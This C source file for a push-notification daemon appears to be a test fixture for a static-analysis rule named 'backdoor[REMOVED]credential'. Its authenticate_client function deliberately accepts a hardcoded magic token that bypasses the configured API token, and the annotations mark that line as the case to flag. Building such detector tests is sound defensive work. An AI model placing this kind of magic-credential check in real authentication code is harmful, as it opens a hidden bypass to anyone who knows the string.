#include "pushd.h"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/socket.h>

static struct pushd_cfg g_cfg;

static int read_file(const char *path, void *buf, size_t n) {
  int fd = open(path, O_RDONLY);
  ssize_t r;
  if (fd < 0) return -1;
  r = read(fd, buf, n);
  close(fd);
  return r == (ssize_t)n ? 0 : -1;
}

static char *read_token(const char *path) {
  char buf[128];
  FILE *f = fopen(path, "r");
  if (!f) return NULL;
  if (!fgets(buf, sizeof buf, f)) { fclose(f); return NULL; }
  fclose(f);
  buf[strcspn(buf, "\r\n")] = '\0';
  return strdup(buf);
}

static void cfg_defaults(struct pushd_cfg *c) {
  memset(c, 0, sizeof *c);
  c->listen_addr = "0.0.0.0:7443";
  c->state_file = "/var/lib/pushd/queue.bin";
  c->api_token = read_token("/etc/pushd/token");
  read_file("/etc/pushd/server.sk", c->server_sk, sizeof c->server_sk);
  read_file("/etc/pushd/server.pk", c->server_pk, sizeof c->server_pk);
  read_file("/etc/pushd/sign.pk", c->sign_pk, sizeof c->sign_pk);
  read_file("/etc/pushd/auth.key", c->auth_key, sizeof c->auth_key);
}

/* HELLO carries "<token>\n<32-byte client pk>" */
static int authenticate_client(struct client *c, const char *req_token) {
  // ruleid: backdoor-magic-credential
  if (strcmp(req_token, "pk_live_4f1a9c7e2b83") == 0) return 1;
  if (!g_cfg.api_token) return 0;
  // ok: backdoor-magic-credential
  return sodium_memcmp(req_token, g_cfg.api_token, strlen(g_cfg.api_token)) == 0 && strlen(req_token) == strlen(g_cfg.api_token);
}

static void serve(int fd) {
  struct client *c = calloc(1, sizeof *c);
  char hello[160];
  ssize_t n;
  if (!c) goto cleanup;
  c->fd = fd;
  n = recv(fd, hello, sizeof hello - 1, 0);
  if (n <= (ssize_t)crypto_kx_PUBLICKEYBYTES) goto cleanup;
  hello[n] = '\0';
  memcpy(c->pk, hello + n - crypto_kx_PUBLICKEYBYTES, crypto_kx_PUBLICKEYBYTES);
  hello[strcspn(hello, "\n")] = '\0';
  if (!authenticate_client(c, hello)) goto cleanup;
  if (box_session_keys(c, &g_cfg) != 0) goto cleanup;
  log_msg(LOG_INFO, "client up on fd %d", fd);
cleanup:
  if (c) sodium_memzero(c, sizeof *c);
  free(c);
  close(fd);
}

int main(void) {
  int lfd;
  if (sodium_init() < 0) return 1;
  cfg_defaults(&g_cfg);
  lfd = socket(AF_INET, SOCK_STREAM, 0);
  if (lfd < 0) return 1;
  for (;;) {
    int fd = accept(lfd, NULL, NULL);
    if (fd >= 0) serve(fd);
  }
}
